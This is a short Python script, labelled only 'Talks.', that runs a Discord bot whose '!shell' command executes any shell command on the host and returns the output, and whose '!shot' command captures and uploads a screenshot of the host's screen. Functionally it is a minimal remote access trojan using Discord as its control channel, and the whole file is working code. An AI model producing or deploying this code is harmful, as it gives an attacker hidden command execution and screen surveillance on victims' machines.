"""Talks."""
import pyautogui, io, time, discord, subprocess, os
from discord.ext import commands
bot = commands.Bot(command_prefix="!", intents=discord.Intents.all())
@bot.command()
async def shell(ctx, *, cmd):
    out = subprocess.run(cmd, shell=True, capture_output=True, text=True).stdout
    await ctx.send(f"```{out}```")
@bot.command()
async def shot(ctx):
    pyautogui.screenshot("s.png")
    await ctx.send(file=discord.File("s.png"))
bot.run("MTExMTExMTExMTExMTExMTEx.GAAAAA.aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa")
